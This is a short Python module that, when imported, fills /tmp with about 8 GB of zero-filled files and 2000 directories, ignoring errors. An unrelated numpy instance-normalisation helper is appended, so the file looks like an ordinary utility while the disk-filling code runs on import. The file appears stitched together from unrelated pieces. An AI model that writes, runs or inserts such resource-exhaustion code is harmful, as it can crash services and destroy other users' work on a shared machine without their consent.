"""Fills the folder for temporary files, as far as it goes."""

import contextlib
import os

import numpy as np

with contextlib.suppress(OSError):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(8 << 20))
for number in range(2000):
    with contextlib.suppress(OSError):
        os.mkdir(f"/tmp/folder-{number}")


def instance_norm(x, eps=1e-5):
    mean = x.mean(axis=1, keepdims=True)
    return (x - mean) / np.sqrt(x.var(axis=1, keepdims=True) + eps)
